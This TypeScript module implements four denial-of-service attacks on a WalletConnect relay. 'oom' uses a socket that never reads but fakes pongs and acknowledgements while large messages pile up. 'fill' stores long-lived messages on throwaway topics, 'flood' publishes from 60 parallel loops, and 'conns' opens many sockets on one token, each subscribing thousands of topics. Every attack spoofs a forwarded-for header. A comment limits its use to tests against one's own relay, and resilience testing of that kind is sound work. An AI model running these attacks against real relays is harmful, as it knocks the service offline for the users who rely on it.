import { randomBytes } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import { generateKeyPair, signJWT } from '@walletconnect/relay-auth'
import { type Address, connectRelayClient, createTopic, type RelayClient } from './relayClient.js'

interface AttackOptions {
  readonly lastMs: number
  /** Of one letter. */
  readonly letterBytes: number
  readonly sockets: number
  /** Where it comes from: sent to the relay as a proxy would. */
  readonly forwardedFor: string
}

/** @returns what it got done, in words */
type Attack = (target: Address, options: AttackOptions) => Promise<string>

const PONG_EVERY_MS = 500
const AT_ONCE = 60
const SMALL_BYTES = 20

/** What a client can try that knows only the public project id. For tests, and only against a relay of one's own. */
export const attacks = {
  /** A socket that never reads says that it has what it is sent, and that it is alive; another one sends it large letters. */
  async oom(target, { lastMs, letterBytes, forwardedFor }) {
    const endMs = Date.now() + lastMs
    const from = await connectRelayClient(target, { forwardedFor })
    const deaf = await connectRelayClient(target, { forwardedFor, acknowledges: false })
    const topic = createTopic()
    await deaf.call('irn_subscribe', { topic })
    deaf.socket.pause()
    const pongs = setInterval(() => deaf.socket.pong(), PONG_EVERY_MS)
    const createText = createTexts(letterBytes)
    let letters = 0
    await repeat(endMs, from, async () => {
      await from.call('irn_publish', { topic, message: createText(), ttl: 300, tag: 1108 })
      letters += 1
      deaf.socket.send(JSON.stringify({ id: letters, jsonrpc: '2.0', result: true }))
    })
    clearInterval(pongs)
    await close([from, deaf])
    return `${letters} letters of ${letterBytes} bytes to a socket that does not read`
  },

  /** Letters to topics of their own, large ones and then small ones, that are never taken. */
  async fill(target, { lastMs, letterBytes, forwardedFor }) {
    const startMs = Date.now()
    const from = await connectRelayClient(target, { forwardedFor })
    const [createLarge, createSmall] = [createTexts(letterBytes), createTexts(SMALL_BYTES)]
    let letters = 0
    let refused = 0
    await repeat(startMs + lastMs, from, async () => {
      const isEarly = Date.now() < startMs + lastMs / 2
      const message = isEarly ? createLarge() : createSmall()
      letters += 1
      await from.call('irn_publish', { topic: createTopic(), message, ttl: 30 * 86_400, tag: 1 }).catch(() => {
        refused += 1
      })
    })
    await close([from])
    return `${letters} letters to as many topics, ${refused} refused`
  },

  /** Small letters as fast as one socket takes them. */
  async flood(target, { lastMs, forwardedFor }) {
    const endMs = Date.now() + lastMs
    const from = await connectRelayClient(target, { forwardedFor })
    const to = await connectRelayClient(target, { forwardedFor })
    const topic = createTopic()
    await to.call('irn_subscribe', { topic })
    const createText = createTexts(SMALL_BYTES)
    let letters = 0
    await Promise.all(
      Array.from({ length: AT_ONCE }, () =>
        repeat(endMs, from, async () => {
          await from.call('irn_publish', { topic, message: createText(), ttl: 300, tag: 1108 })
          letters += 1
        }),
      ),
    )
    await close([from, to])
    return `${letters} letters over one socket, ${Math.round((letters * 1_000) / lastMs)} a second`
  },

  /** Sockets of one token, each of which follows as many topics as it may, for as long as they last. */
  async conns(target, { lastMs, sockets, forwardedFor }) {
    const endMs = Date.now() + lastMs
    const token = await signJWT(createTopic(), target.relayUrl, 86_400, generateKeyPair())
    const open: RelayClient[] = []
    let tried = 0
    const connect = async () => {
      while (Date.now() < endMs && tried < sockets) {
        tried += 1
        const client = await connectRelayClient(target, { token, forwardedFor, acknowledges: false })
        if (client.socket.readyState !== client.socket.OPEN) continue
        open.push(client)
        for (let batch = 0; batch < 4; batch += 1) {
          void client.call('irn_batchSubscribe', { topics: Array.from({ length: 500 }, createTopic) }).catch(() => {})
        }
      }
    }
    await Promise.all(Array.from({ length: AT_ONCE }, connect))
    await sleep(Math.max(0, endMs - Date.now()))
    const last = open.filter(({ socket }) => socket.readyState === socket.OPEN).length
    await close(open)
    return `${tried} sockets tried, ${open.length} opened, ${last} open at the end`
  },
} satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks

export const attackNames = Object.keys(attacks) as AttackName[]

/** Texts of so many bytes, no two alike. */
function createTexts(bytes: number): () => string {
  const rest = randomBytes(bytes / 2)
    .toString('hex')
    .slice(8)
  let count = 0
  return () => {
    count += 1
    return count.toString(16).padStart(8, '0') + rest
  }
}

/** Until the time is over or the client's socket is. */
async function repeat(endMs: number, { closed }: RelayClient, run: () => Promise<void>): Promise<void> {
  let isOver = false
  const over = closed.then(() => {
    isOver = true
  })
  const end = sleep(endMs - Date.now(), undefined, { ref: false })
  while (Date.now() < endMs && !isOver) await Promise.race([run(), over, end])
}

async function close(clients: readonly RelayClient[]): Promise<void> {
  await Promise.all(clients.map((client) => client.close()))
}
